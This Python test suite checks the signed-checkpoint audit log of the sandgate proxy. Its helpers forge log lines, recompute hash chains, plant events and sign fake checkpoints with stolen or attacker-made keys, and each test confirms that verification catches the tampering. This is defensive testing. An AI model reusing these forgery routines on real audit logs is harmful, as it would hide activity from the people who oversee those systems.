"""Signed checkpoints in the security-event log, end to end: the real
proxy signs, `sandgate audit key` makes and rotates keys, and
`sandgate audit verify --key` finds what the hash chain alone cannot.

- A log whose last 100 events were rewritten with recomputed hashes passes
  the plain chain check (as it must) and fails with the key, naming the
  first event that can no longer be trusted.
- A tail cut after the last checkpoint is reported.
- Key rotation: the old key introduces the new one; the old private key
  is gone, and a writer still signing with a copy of it is refused.
- A checkpoint verifies with nothing but openssl and the documented
  message (docs/audit.md).
- The writer's anchor (T4): lines planted after a close, or a whole log
  replaced, are recorded by the restarted proxy (log.resume) and fail
  verify; a log cut at an older close fails against the anchor; an empty
  log, a complete line jansson refuses, a log cut at its front, a thief's
  rewrite with a retired key all fail; a compromised proxy's re-signed
  log fails against a shipped copy; keys are refused in the log folder
  and never handled through a symlink; FIFOs and symlinks among the log
  files are refused at once by verify, export and the proxy.
- Planted files (T6): empty files among the rotated names neither move
  the writer's first= nor get its files deleted; a planted seq just under
  2^53 does not stop the proxy.
- Fourth round (T7): copies of the writer's first line or hard links at
  the rotated names are not its files (first= stays, none deleted, the
  log goes on); a run linked only to a planted line is not the end.
- Fifth round (T8): names shifted up one and a current file planted
  after a close do not move first=; a split run near 2^53 behind 8 KiB
  of junk is not the end; a rotation cut short does not stop rotation.
- Sixth round (T9): a NAME.1 planted in logrotate's window before
  SIGUSR1 does not move first=; the names a file at NAME is moved aside
  to cannot be taken ahead.
- Issue 20 round (T15, atk20r17): lines planted before the proxy's first
  start are recorded (log.resume, anchor_seq 0) and fail verify --key; a
  torn-looking line with its newline after a close fails at once with the
  anchor and is recorded by the next start.
- Issue 20 round (T16, atk20r19): a controller line cut short at all
  but its newline is not a line lost while whole in the log; a torn line
  forged before a log.resume or a log.outage fails verify --key (each
  counts the torn lines before it, "torn").
- Twelfth round (T12): a writer killed (SANDGATE_TEST_CRASH) between a
  line it adds after its anchored close and the anchor naming its next
  checkpoint (a start's open, a key hand-over, a controller's record) or
  between its own close and that close's anchor is a writer that
  stopped, not a forgery: verify --key --anchor passes after the next
  run.

Real proxy on loopback, real clients, the real `sandgate` binary; forged
checkpoints are signed with the openssl CLI, as anyone holding a key can.
"""
import datetime
import base64
import hashlib
import json
import os
import re
import resource
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import proxylib  # noqa: E402

SANDGATE = os.path.join(proxylib.BIN, "sandgate")
EVERY = 50          # --checkpoint-every
INTERVAL = 1        # --checkpoint-interval, seconds
UNTRUSTED_RE = re.compile(r"first event that can no longer be trusted: "
                          r"seq (\d+) \((?:(\S+):(\d+)|missing from the "
                          r"log)\)")
W = {}


def flood(port, n, tag, threads=10):
    """n blocked requests to TAG<i>.invalid from concurrent clients."""
    proxylib.flood(port, ["%s%d.invalid" % (tag, i % threads)
                          for i in range(n)], threads)


def sandgate(*args):
    return proxylib.run([SANDGATE] + list(args), timeout=120)


def make_key(name):
    """A key made with `sandgate audit key create`, and a copy of its
    public half kept apart (what an operator stores elsewhere)."""
    keys = os.path.join(W["dir"], "keys-" + name)
    path = os.path.join(keys, "checkpoint.key")
    r = sandgate("audit", "key", "create", path)
    if r.returncode != 0:
        raise AssertionError("audit key create: %r" % (r,))
    trusted = os.path.join(W["dir"], name + ".pub")
    shutil.copyfile(path + ".pub", trusted)
    return path, trusted


def proxy_for(name, key, every=EVERY, log_dir=None, env=None):
    p = proxylib.Proxy(W["dir"], W["up"], name=name, env=env, extra_args=[
        "--checkpoint-key", key, "--checkpoint-every", str(every),
        "--checkpoint-interval", str(INTERVAL)] + proxylib.full_lines_args())
    if log_dir is not None:
        p.log_dir = log_dir
        p.log_path = os.path.join(log_dir, "security-events.jsonl")
    return p


def start_proxy(name, key, every=EVERY, log_dir=None, env=None):
    return proxy_for(name, key, every, log_dir, env).start()


def rotate_key(test, key, name):
    """`audit key rotate` while the proxy runs; waits until the proxy took
    the next key. Returns a copy of its public half, kept apart."""
    r = sandgate("audit", "key", "rotate", key)
    test.assertEqual(r.returncode, 0, r.stdout + r.stderr)
    new_pub = os.path.join(W["dir"], name)
    try:
        shutil.copyfile(key + ".next.pub", new_pub)
        took = False
    except FileNotFoundError:
        took = True     # the proxy's checkpoint came first: KEY.pub is it
    deadline = time.monotonic() + 10
    while os.path.exists(key + ".next") and time.monotonic() < deadline:
        time.sleep(0.1)
    test.assertFalse(os.path.exists(key + ".next"),
                     "the proxy did not take the next key")
    if took:
        shutil.copyfile(key + ".pub", new_pub)
    return new_pub


def stop_proxy(p):
    status = p.stop()
    if status != 0:
        raise AssertionError("proxy exit %r; stderr:\n%s" % (status,
                                                             p.stderr()))
    report = p.sanitizer_report()
    if report:
        raise AssertionError("sanitizer report:\n" + report[:4000])


def rehash(lines, start):
    """Give lines[start:] fresh prev and hash values, as whoever can write
    the file can (the hash is SHA-256 of the line without its hash member,
    docs/audit.md). lines are bytes without newlines."""
    prev = json.loads(lines[start - 1])["hash"] if start > 0 else "0" * 64
    out = list(lines[:start])
    for line in lines[start:]:
        cut = line.rfind(b',"prev":"')
        body = line[:cut] + b',"prev":"' + prev.encode() + b'"}'
        prev = hashlib.sha256(body).hexdigest()
        out.append(body[:-1] + b',"hash":"' + prev.encode() + b'"}')
    return out


def write_log(name, lines):
    d = os.path.join(W["dir"], name)
    os.makedirs(d)
    with open(os.path.join(d, "security-events.jsonl"), "wb") as f:
        f.write(b"".join(line + b"\n" for line in lines))
    return d


def is_checkpoint(line):
    return json.loads(line).get("event") == "log.checkpoint"


def sandgate_env(env, *args, timeout=60):
    """sandgate with extra environment variables."""
    full = proxylib.clean_env(env)
    return subprocess.run([SANDGATE] + list(args), capture_output=True,
                          text=True, errors="replace", timeout=timeout,
                          env=full, stdin=subprocess.DEVNULL)


def now_ts():
    return datetime.datetime.now(datetime.timezone.utc).strftime(
        "%Y-%m-%dT%H:%M:%S.%fZ")


def forge(seq, prev, fields):
    """A line as the writer makes it (compact JSON, ASCII, hash last) with
    the given fields: what anyone who can write the log can add."""
    obj = {"ts": now_ts(), "seq": seq}
    obj.update(fields)
    obj["prev"] = prev
    body = json.dumps(obj, separators=(",", ":")).encode()
    return body[:-1] + b',"hash":"' + hashlib.sha256(
        body).hexdigest().encode() + b'"}'


def forged_event(seq, prev, host, event="egress.allowed"):
    return forge(seq, prev, {"event": event, "sandbox": None,
                             "src": "127.0.0.1:1", "method": "CONNECT",
                             "host": host, "port": 443, "sni": None,
                             "resolved": None, "reason": None,
                             "message": None, "policy_sets": [],
                             "rule": None, "policy_digest": "00"})


def key_id(key):
    """The base64 raw public key of a PEM private key (openssl CLI)."""
    der = subprocess.run(["openssl", "pkey", "-in", key, "-pubout",
                          "-outform", "DER"], capture_output=True,
                         check=True, timeout=30).stdout
    return base64.b64encode(der[-32:]).decode()


def forged_checkpoint(key, seq, prev, reason, next_key=None, every=EVERY):
    """A checkpoint signed with key, as its holder can make one."""
    ts = now_ts()
    kid = key_id(key)
    msg = ("sandgate-checkpoint-v1\nseq=%d\nts=%s\nprev=%s\nreason=%s\n"
           "key=%s\nnext_key=%s\nevery_events=%d\nevery_secs=%d\n" % (
               seq, ts, prev, reason, kid, next_key or "", every,
               INTERVAL))
    with tempfile.TemporaryDirectory() as d:
        with open(os.path.join(d, "msg"), "w") as f:
            f.write(msg)
        subprocess.run(["openssl", "pkeyutl", "-sign", "-inkey", key,
                        "-rawin", "-in", os.path.join(d, "msg"), "-out",
                        os.path.join(d, "sig")], check=True, timeout=30,
                       capture_output=True)
        with open(os.path.join(d, "sig"), "rb") as f:
            sig = base64.b64encode(f.read()).decode()
    obj = {"ts": ts, "seq": seq, "event": "log.checkpoint",
           "reason": reason, "key": kid, "next_key": next_key,
           "every_events": every, "every_secs": INTERVAL, "sig": sig,
           "prev": prev}
    body = json.dumps(obj, separators=(",", ":")).encode()
    return body[:-1] + b',"hash":"' + hashlib.sha256(
        body).hexdigest().encode() + b'"}'


def last_hash(lines):
    return json.loads(lines[-1])["hash"] if lines else "0" * 64


def read_lines(path):
    with open(path, "rb") as f:
        return f.read().splitlines()


def write_lines(path, lines):
    with open(path, "wb") as f:
        f.write(b"".join(x + b"\n" for x in lines))


def resumed_twice(test, name, key, logs, planted, close):
    """Start the proxy on logs twice (3 requests, SIGTERM each time): it
    continues from close after the planted lines (one log.resume), logs
    both runs' requests and closes. Returns the lines after planted."""
    path = os.path.join(logs, "security-events.jsonl")
    for run in range(2):
        q = start_proxy("%s-%d" % (name, run), key, log_dir=logs)
        flood(q.port, 3, "%sr%d-" % (name, run), threads=1)
        stop_proxy(q)
        test.assertNotIn("unavailable", q.stderr())
    after = [json.loads(x) for x in read_lines(path)[len(planted):]]
    test.assertTrue(after, "nothing logged after the planted lines")
    test.assertEqual(after[0]["event"], "log.resume", after[0])
    test.assertEqual(after[0]["found_seq"], close)
    test.assertEqual([x["seq"] for x in after],
                     list(range(close + 1, close + 1 + len(after))))
    hosts = [x.get("host") for x in after]
    for run in range(2):
        test.assertIn("%sr%d-0.invalid" % (name, run), hosts)
    test.assertEqual((after[-1]["event"], after[-1]["reason"]),
                     ("log.checkpoint", "close"))
    return after


def setUpModule():
    for k in proxylib.PROXY_ENV:
        os.environ.pop(k, None)
    W["dir"] = tempfile.mkdtemp(prefix="sg-signed-")
    W["up"] = proxylib.Upstreams(W["dir"]).start()


def tearDownModule():
    W["up"].stop()
    if not os.environ.get("SANDGATE_KEEP"):
        shutil.rmtree(W["dir"], ignore_errors=True)


class T1Tamper(unittest.TestCase):
    """One proxy run of 1,000 blocked requests, then tampered copies."""

    @classmethod
    def setUpClass(cls):
        cls.key, cls.pub = make_key("t1")
        p = start_proxy("t1", cls.key)
        flood(p.port, 1000, "flood")
        stop_proxy(p)
        with open(p.log_path, "rb") as f:
            cls.lines = f.read().splitlines()
        cls.log_dir = p.log_dir

    def verify(self, log_dir, *keys):
        args = ["audit", "verify", "--log-dir", log_dir]
        for k in keys:
            args += ["--key", k]
        return sandgate(*args)

    def untrusted(self, r):
        m = UNTRUSTED_RE.search(r.stdout)
        self.assertIsNotNone(m, r.stdout + r.stderr)
        return int(m.group(1)), m.group(3) and int(m.group(3))

    def last_checkpoint_before(self, index):
        """The seq of the last checkpoint among lines[:index]."""
        for line in reversed(self.lines[:index]):
            if is_checkpoint(line):
                return json.loads(line)["seq"]
        return 0

    def test_1_intact(self):
        events = [json.loads(x) for x in self.lines]
        kinds = [e.get("reason") for e in events
                 if e["event"] == "log.checkpoint"]
        self.assertEqual(kinds[0], "open")
        self.assertEqual(kinds[-1], "close")
        self.assertGreaterEqual(kinds.count("count"), 1000 // EVERY - 1)
        blocked = [e for e in events if e["event"] == "egress.blocked"]
        self.assertEqual(len(blocked), 1000)
        # No run of more than EVERY events without a checkpoint.
        run = 0
        for e in events:
            run = 0 if e["event"] == "log.checkpoint" else run + 1
            self.assertLessEqual(run, EVERY)
        r = self.verify(self.log_dir, self.pub)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertRegex(r.stdout, r"OK: %d events, chain intact"
                         % len(self.lines))
        self.assertRegex(r.stdout, r"OK: %d checkpoint\(s\) signed by "
                         r"trusted keys; the last at seq %d \(close, "
                         % (len(kinds), len(self.lines)))
        r = self.verify(self.log_dir)
        self.assertEqual(r.returncode, 0, r.stdout)
        self.assertIn("%d checkpoint(s) not checked" % len(kinds), r.stdout)

    def test_2_last_100_rewritten(self):
        """The issue's case: the last 100 events rewritten, hashes
        recomputed from there on."""
        n = len(self.lines)
        start = n - 100
        lines = [x.replace(b"flood", b"FLOOD") if not is_checkpoint(x)
                 else x for x in self.lines]
        lines = self.lines[:start] + rehash(lines, start)[start:]
        self.assertNotEqual(lines[start:], self.lines[start:])
        d = write_log("rewritten", lines)
        r = self.verify(d)
        self.assertEqual(r.returncode, 0, "the plain chain check passes: "
                         + r.stdout)
        r = self.verify(d, self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("does not verify", r.stdout)
        seq, line = self.untrusted(r)
        want = self.last_checkpoint_before(start + 1) + 1
        self.assertEqual(seq, want, r.stdout)
        self.assertEqual(line, want)    # one line per seq in one file
        self.assertLessEqual(seq, start + 1)
        print("\n  rewritten tail: " + r.stdout.strip().replace(
            "\n", "\n  "))

    def test_3_rewritten_without_checkpoints(self):
        """The same, the checkpoints the forger cannot sign left out and
        seq renumbered: the chain holds, the tail is unsigned."""
        start = len(self.lines) - 100
        kept = self.lines[:start] + [x.replace(b"flood", b"FLOOD") for x
                                     in self.lines[start:]
                                     if not is_checkpoint(x)]
        renum = []
        for i, x in enumerate(kept):
            renum.append(re.sub(rb'"seq":\d+', b'"seq":%d' % (i + 1), x, 1)
                         if i >= start else x)
        d = write_log("unsigned-tail", rehash(renum, start))
        self.assertEqual(self.verify(d).returncode, 0)
        r = self.verify(d, self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("no checkpoint of a trusted key signs them", r.stdout)
        seq, _ = self.untrusted(r)
        self.assertEqual(seq, self.last_checkpoint_before(start + 1) + 1)

    def test_4_forged_with_another_key(self):
        """Checkpoints signed with the forger's own key do not count."""
        other, other_pub = make_key("forger")
        p = start_proxy("forged", other)
        stop_proxy(p)
        r = self.verify(p.log_dir, other_pub)
        self.assertEqual(r.returncode, 0, r.stdout)
        r = self.verify(p.log_dir, self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("no checkpoint in the log is signed by a trusted key",
                      r.stdout)

    def test_5_tail_cut(self):
        """Lines cut after the last checkpoint: the close and the events
        after the last count checkpoint."""
        n = len(self.lines)
        last = max(i for i in range(n - 4) if is_checkpoint(self.lines[i])
                   and not any(map(is_checkpoint,
                                   self.lines[i + 1:i + 4])))
        cut = self.lines[:last + 4]
        d = write_log("cut", cut)
        # The proxy signs every INTERVAL s; its last checkpoint is older
        # than twice that by now.
        time.sleep(2 * INTERVAL + 0.5)
        self.assertEqual(self.verify(d).returncode, 0)
        r = self.verify(d, self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        seq, line = self.untrusted(r)
        self.assertEqual(seq, json.loads(self.lines[last])["seq"] + 1)
        self.assertEqual(line, last + 2)
        # Cut right after that checkpoint: the lines after it are missing.
        d = write_log("cut-at-checkpoint", self.lines[:last + 1])
        r = self.verify(d, self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("not with a close", r.stdout)
        self.assertRegex(r.stdout, r"seq %d \(missing from the log\)"
                         % (json.loads(self.lines[last])["seq"] + 1))
        # A whole file lost after rotation looks the same: tested by the
        # shipper test's rotated logs; here the complete log passes.
        self.assertEqual(self.verify(self.log_dir, self.pub).returncode, 0)

    def test_6_openssl_checks_a_checkpoint(self):
        """The documented message, checked with the openssl CLI alone."""
        e = json.loads(next(x for x in reversed(self.lines)
                            if is_checkpoint(x)))
        msg = ("sandgate-checkpoint-v1\nseq=%d\nts=%s\nprev=%s\nreason=%s\n"
               "key=%s\nnext_key=%s\nevery_events=%d\nevery_secs=%d\n" % (
                   e["seq"], e["ts"], e["prev"], e["reason"], e["key"],
                   e["next_key"] or "", e["every_events"], e["every_secs"]))
        work = os.path.join(W["dir"], "openssl")
        os.makedirs(work)
        with open(os.path.join(work, "msg"), "w") as f:
            f.write(msg)
        with open(os.path.join(work, "sig"), "wb") as f:
            f.write(base64.b64decode(e["sig"]))
        r = subprocess.run(["openssl", "pkeyutl", "-verify", "-pubin",
                            "-inkey", self.pub, "-rawin", "-in",
                            os.path.join(work, "msg"), "-sigfile",
                            os.path.join(work, "sig")],
                           capture_output=True, text=True, timeout=30)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        with open(os.path.join(work, "msg"), "w") as f:
            f.write(msg.replace("seq=%d" % e["seq"], "seq=%d" % (e["seq"]
                                                                + 1)))
        r = subprocess.run(["openssl", "pkeyutl", "-verify", "-pubin",
                            "-inkey", self.pub, "-rawin", "-in",
                            os.path.join(work, "msg"), "-sigfile",
                            os.path.join(work, "sig")],
                           capture_output=True, text=True, timeout=30)
        self.assertNotEqual(r.returncode, 0)


class T2Rotation(unittest.TestCase):
    def test_rotation(self):
        key, old_pub = make_key("rot")
        stolen = os.path.join(W["dir"], "stolen.key")
        shutil.copy2(key, stolen)      # what a thief of the old key holds
        p = start_proxy("rot", key, every=1000)
        flood(p.port, 100, "before")
        new_pub = rotate_key(self, key, "rot-new.pub")
        flood(p.port, 100, "after")
        stop_proxy(p)
        events = p.events()
        handover = [e for e in events if e.get("reason") == "key"]
        self.assertEqual(len(handover), 1, handover)
        new_id = handover[0]["next_key"]
        self.assertNotEqual(new_id, handover[0]["key"])
        # The new key took the old one's file: the old private key is gone.
        r = sandgate("audit", "key", "show", key)
        self.assertIn("id  %s" % new_id, r.stdout)
        after = [e for e in events if e["seq"] > handover[0]["seq"] and
                 e["event"] == "log.checkpoint"]
        self.assertTrue(after and all(e["key"] == new_id for e in after))
        # The old public key alone verifies all: it introduced the new one.
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key",
                     old_pub)
        self.assertEqual(r.returncode, 0, r.stdout)
        self.assertIn("now signed by key %s" % new_id, r.stdout)
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key",
                     new_pub)
        self.assertEqual(r.returncode, 0, r.stdout)
        # A proxy run with the stolen old key on the same log is refused.
        os.chmod(stolen, 0o600)
        thief = start_proxy("thief", stolen, log_dir=p.log_dir)
        flood(thief.port, 10, "thief")
        stop_proxy(thief)
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key",
                     old_pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("which handed over to key %s" % new_id, r.stdout)
        m = UNTRUSTED_RE.search(r.stdout)
        self.assertIsNotNone(m, r.stdout)
        self.assertEqual(int(m.group(1)), events[-1]["seq"] + 1)


class T3KeyPlaces(unittest.TestCase):
    def refused(self, key, words):
        p = proxylib.Proxy(W["dir"], W["up"], name="refused",
                           extra_args=["--checkpoint-key", key])
        with self.assertRaises(proxylib.ProxyError) as cm:
            p.start(timeout=10)
        self.assertIn(words, str(cm.exception))

    def test_key_in_log_folder_or_readable(self):
        key, _ = make_key("places")
        st = os.stat(key)
        self.assertEqual(stat.S_IMODE(st.st_mode), 0o600)
        self.assertEqual(stat.S_IMODE(os.stat(os.path.dirname(key))
                                      .st_mode), 0o700)
        os.chmod(key, 0o640)
        self.refused(key, "readable by it alone")
        os.chmod(key, 0o600)
        # A key in the log folder: whoever writes the log could read it.
        p = proxylib.Proxy(W["dir"], W["up"], name="inlog")
        inlog = os.path.join(p.log_dir, "checkpoint.key")
        shutil.copy2(key, inlog)
        p.extra_args = ["--checkpoint-key", inlog]
        with self.assertRaises(proxylib.ProxyError) as cm:
            p.start(timeout=10)
        self.assertIn("is in the log folder", str(cm.exception))
        r = sandgate("audit", "key", "create", key)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("a key exists at %s already" % key, r.stderr)


class T4Anchor(unittest.TestCase):
    """What the hash chain and the checkpoints alone could not show: one
    real proxy session (its log ends with a close, its anchor names it),
    copied with its key folder for each case."""

    @classmethod
    def setUpClass(cls):
        cls.key, cls.pub = make_key("anc")
        p = start_proxy("anc1", cls.key)
        flood(p.port, 120, "base")
        stop_proxy(p)
        cls.log_dir = p.log_dir
        cls.lines = read_lines(p.log_path)

    def clone(self, name):
        """A copy of the session's log folder and key folder (with the
        anchor): (log folder, log path, key path)."""
        d = os.path.join(W["dir"], "t4-" + name)
        shutil.copytree(self.log_dir, os.path.join(d, "logs"))
        shutil.copytree(os.path.dirname(self.key), os.path.join(d, "keys"))
        logs = os.path.join(d, "logs")
        return (logs, os.path.join(logs, "security-events.jsonl"),
                os.path.join(d, "keys", "checkpoint.key"))

    def run_proxy(self, name, key, logs, n=0):
        """Start the proxy on the log, send n blocked requests, stop it."""
        p = start_proxy("t4-" + name + "-run", key, log_dir=logs)
        if n:
            flood(p.port, n, name)
        stop_proxy(p)
        return p

    def verify(self, *args, **kw):
        return sandgate_env(kw.get("env"), "audit", "verify", *args)

    def untrusted(self, r):
        m = UNTRUSTED_RE.search(r.stdout)
        self.assertIsNotNone(m, r.stdout + r.stderr)
        return int(m.group(1)), m.group(2)

    def test_h2_planted_after_close(self):
        """H2: two lines planted after the close, then the proxy restarts:
        it records that its log does not end where it left it."""
        logs, path, key = self.clone("h2a")
        close = json.loads(self.lines[-1])["seq"]
        lines = list(self.lines)
        for i in range(2):
            lines.append(forged_event(close + 1 + i, last_hash(lines),
                                      "planted-allowed.example.invalid"))
        write_lines(path, lines)
        self.run_proxy("h2a", key, logs)
        events = [json.loads(x) for x in read_lines(path)]
        resume = [e for e in events if e["event"] == "log.resume"]
        self.assertEqual(len(resume), 1, events[-3:])
        self.assertEqual((resume[0]["anchor_seq"], resume[0]["found_seq"]),
                         (close, close + 2))
        r = self.verify("--log-dir", logs)
        self.assertEqual(r.returncode, 0, r.stdout)   # the chain holds
        r = self.verify("--log-dir", logs, "--key", self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("follow the writer's close at seq %d" % close,
                      r.stdout)
        self.assertEqual(self.untrusted(r), (close + 1, path))

    def test_h2_log_replaced(self):
        """H2: the whole log replaced by three forged lines from the
        first seq, then the proxy restarts."""
        logs, path, key = self.clone("h2b")
        lines = []
        for i in range(3):
            lines.append(forge(i + 1, last_hash(lines), {
                "event": "policy.reloaded", "policy_digest": "00"}))
        write_lines(path, lines)
        self.run_proxy("h2b", key, logs)
        r = self.verify("--log-dir", logs, "--key", self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("were cut, or the log was replaced", r.stdout)
        self.assertEqual(self.untrusted(r)[0], 1)

    def test_h3_cut_at_an_old_close(self):
        """H3: a second session, then the log cut at the first one's
        close: the writer's anchor names the second close."""
        logs, path, key = self.clone("h3")
        self.run_proxy("h3", key, logs, 30)
        close1 = json.loads(self.lines[-1])["seq"]
        write_lines(path, read_lines(path)[:len(self.lines)])
        r = self.verify("--log-dir", logs, "--key", self.pub)
        self.assertEqual(r.returncode, 0, "without the anchor nothing "
                         "shows the cut: " + r.stdout)
        r = self.verify("--log-dir", logs, "--key", self.pub, "--anchor",
                        key + ".anchor")
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("the log ends at seq %d, but its writer's anchor"
                      % close1, r.stdout)
        self.assertEqual(self.untrusted(r), (close1 + 1, None))

    def test_h3_default_anchor(self):
        """H3: `audit verify --key` of the live log reads the writer's
        anchor beside its key by itself."""
        state = os.path.join(W["dir"], "t4-state")
        env = {"SANDGATE_STATE": state}
        r = sandgate_env(env, "audit", "key", "create", "--owner", "0")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        key = os.path.join(state, "proxy", "keys", "checkpoint.key")
        pub = os.path.join(W["dir"], "t4-state.pub")
        shutil.copyfile(key + ".pub", pub)
        p = start_proxy("t4-def1", key)
        flood(p.port, 20, "one")
        stop_proxy(p)
        env["SANDGATE_LOG_DIR"] = p.log_dir
        first = read_lines(p.log_path)
        self.run_proxy("def2", key, p.log_dir, 20)
        r = self.verify("--key", pub, env=env)
        self.assertEqual(r.returncode, 0, r.stdout)
        self.assertIn("checked against the anchor %s.anchor" % key,
                      r.stdout)
        write_lines(p.log_path, first)
        r = self.verify("--key", pub, env=env)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("its writer's anchor names seq", r.stdout)
        self.assertEqual(self.untrusted(r)[0],
                         json.loads(first[-1])["seq"] + 1)

    def test_h4_empty_log(self):
        """H4: an empty log, or one of nothing but a torn line."""
        for name, data in (("empty", b""), ("torn", b'{"ts":"2026-12')):
            d = os.path.join(W["dir"], "t4-h4-" + name)
            os.makedirs(d)
            with open(os.path.join(d, "security-events.jsonl"), "wb") as f:
                f.write(data)
            r = self.verify("--log-dir", d, "--key", self.pub)
            self.assertEqual(r.returncode, 1, name + ": " + r.stdout)
            self.assertIn("the log holds no event", r.stdout)

    def test_m1_complete_lines_are_never_torn(self):
        """M1: a complete line that jansson refuses (a \\u0000, an integer
        past 64 bits) is not a torn line: after the close, or anywhere."""
        close = json.loads(self.lines[-1])["seq"]
        line = forged_event(close + 1, last_hash(self.lines),
                            "exfil.example.invalid")
        line = line.replace(b'"policy_digest":"00"',
                            b'"policy_digest":"00","note":"\\u0000"')
        body = line[:line.rfind(b',"hash":"')] + b"}"
        line = body[:-1] + b',"hash":"' + hashlib.sha256(
            body).hexdigest().encode() + b'"}'
        d = write_log("t4-m1-nul", self.lines + [line])
        for keys in ((), ("--key", self.pub)):
            r = self.verify("--log-dir", d, *keys)
            self.assertEqual(r.returncode, 1, r.stdout)
            self.assertIn("not a log line", r.stdout)
        mid = self.lines[60].replace(b'"port":80', b'"port":' +
                                     b"9" * 24, 1)
        self.assertNotEqual(mid, self.lines[60])
        d = write_log("t4-m1-big", self.lines[:61] + [mid] +
                      self.lines[61:])
        r = self.verify("--log-dir", d, "--key", self.pub)
        self.assertEqual(r.returncode, 1, r.stdout)
        self.assertIn("%s/security-events.jsonl:62: chain broken: not a "
                      "log line" % d, r.stdout)

    def test_m2_front_cut(self):
        """M2: the oldest lines cut from a file, even right at a
        checkpoint, are not "rotated away"."""
        first_count = next(i for i, x in enumerate(self.lines)
                           if is_checkpoint(x) and
                           json.loads(x)["reason"] == "count")
        for name, lines in (("at-count", self.lines[first_count:]),
                            ("mid", self.lines[first_count + 5:]),
                            ("only-close", self.lines[-1:])):
            d = write_log("t4-m2-" + name, lines)
            r = self.verify("--log-dir", d)
            self.assertEqual(r.returncode, 0, r.stdout)
            r = self.verify("--log-dir", d, "--key", self.pub)
            self.assertEqual(r.returncode, 1, name + ": " + r.stdout)
            self.assertIn("lines before it were cut from the file",
                          r.stdout)

    def test_m2_rotated_files(self):
        """M2: rotation keeps a log verifiable after its oldest files are
        deleted: every file starts with a rotation checkpoint."""
        key, pub = make_key("m2rot")
        p = proxylib.Proxy(W["dir"], W["up"], name="t4-m2rot", extra_args=[
            "--checkpoint-key", key, "--checkpoint-every", str(EVERY),
            "--checkpoint-interval", str(INTERVAL), "--log-max-size", "16k",
            "--log-keep", "2"] + proxylib.full_lines_args()).start()
        flood(p.port, 300, "rot")
        stop_proxy(p)
        files = sorted(f for f in os.listdir(p.log_dir)
                       if f.startswith("security-events.jsonl."))
        self.assertEqual(files, ["security-events.jsonl.1",
                                 "security-events.jsonl.2"])
        for f in files + ["security-events.jsonl"]:
            first = json.loads(read_lines(os.path.join(p.log_dir, f))[0])
            self.assertEqual((first["event"], first.get("reason")),
                             ("log.checkpoint", "rotate"), f)
        r = self.verify("--log-dir", p.log_dir, "--key", pub)
        self.assertEqual(r.returncode, 0, r.stdout)
        self.assertIn("older events were rotated away", r.stdout)

    def test_m3_stolen_retired_key(self):
        """M3: a thief of the old key rewrites the log from before the
        hand-over and signs with it (or hands over to a key of its own):
        given both public keys, verify fails; the live log fails against
        the writer's anchor even with the old key alone."""
        key, old_pub = make_key("m3")
        stolen = os.path.join(W["dir"], "m3-stolen.key")
        shutil.copy2(key, stolen)
        p = start_proxy("t4-m3", key)
        flood(p.port, 60, "before")
        new_pub = rotate_key(self, key, "m3-new.pub")
        flood(p.port, 20, "after")
        stop_proxy(p)
        lines = read_lines(p.log_path)
        cut = next(i for i, x in enumerate(lines) if is_checkpoint(x) and
                   json.loads(x)["reason"] == "count") + 1
        seq = cut + 1
        rewrite = lines[:cut]
        for i in range(2):
            rewrite.append(forged_event(seq + i, last_hash(rewrite),
                                        "innocent%d.test" % i))
        rewrite.append(forged_checkpoint(stolen, seq + 2,
                                         last_hash(rewrite), "close"))
        own = os.path.join(W["dir"], "m3-own.key")
        subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519",
                        "-out", own], check=True, timeout=30)
        handover = lines[:cut]
        handover.append(forged_event(seq, last_hash(handover), "a.test"))
        handover.append(forged_checkpoint(stolen, seq + 1,
                                          last_hash(handover), "key",
                                          next_key=key_id(own)))
        handover.append(forged_checkpoint(own, seq + 2, last_hash(handover),
                                          "close"))
        for name, forged in (("rewrite", rewrite), ("handover", handover)):
            d = write_log("t4-m3-" + name, forged)
            r = self.verify("--log-dir", d, "--key", old_pub, "--key",
                            new_pub)
            self.assertEqual(r.returncode, 1, name + ": " + r.stdout)
            self.assertIn("given as trusted, signs no checkpoint",
                          r.stdout)
        write_lines(p.log_path, rewrite)
        r = self.verify("--log-dir", p.log_dir, "--key", old_pub,
                        "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("its writer's anchor names seq", r.stdout)

    def test_m4_resigned_by_the_writer(self):
        """M4: whoever holds the proxy's key and anchor (a compromised
        proxy) can rewrite and re-sign its whole log; the copy shipped
        before is the witness that shows it."""
        logs, path, key = self.clone("m4")
        shipped = os.path.join(W["dir"], "t4-m4-shipped.jsonl")
        shutil.copyfile(path, shipped)
        lines = []
        for i in range(3):
            lines.append(forge(i + 1, last_hash(lines), {
                "event": "policy.reloaded", "policy_digest": "00"}))
        lines.append(forged_checkpoint(key, 4, last_hash(lines), "close"))
        write_lines(path, lines)
        close = json.loads(lines[-1])
        with open(key + ".anchor", "w") as f:
            f.write("sandgate-anchor-v1 seq=4 hash=%s reason=close ts=%s "
                    "key=%s\n" % (close["hash"], close["ts"], close["key"]))
        r = self.verify("--log-dir", logs, "--key", self.pub, "--anchor",
                        key + ".anchor")
        self.assertEqual(r.returncode, 0, "the writer's own key and anchor "
                         "vouch for what it rewrote: " + r.stdout)
        r = self.verify("--log-dir", logs, "--key", self.pub, "--anchor",
                        shipped)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
